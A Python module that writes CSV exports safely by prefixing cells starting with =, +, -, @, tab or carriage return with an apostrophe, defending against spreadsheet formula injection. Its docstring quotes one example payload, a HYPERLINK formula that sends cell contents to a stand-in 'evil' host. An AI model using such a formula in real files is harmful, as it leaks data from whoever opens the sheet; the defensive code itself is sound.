"""CSV downloads that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with =, +, -, @ (and, in some, a tab or
carriage return) as a formula: a job ad named `=HYPERLINK("http://evil/?"&A2)` would leak the sheet
when the export is opened. Such a cell gets a leading apostrophe (OWASP's advice), which the
spreadsheet shows as text. Numbers are written as numbers: -3.5 is a value, not a formula.
"""

import csv
from collections.abc import Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_write(out, *, columns: list[str], rows: Iterable[Mapping]) -> None:
    """A header row and one line per mapping in `rows` (keys outside `columns` are left out)."""
    writer = csv.writer(out)
    writer.writerow([csv_cell(c) for c in columns])
    for row in rows:
        writer.writerow([csv_cell(row.get(column)) for column in columns])
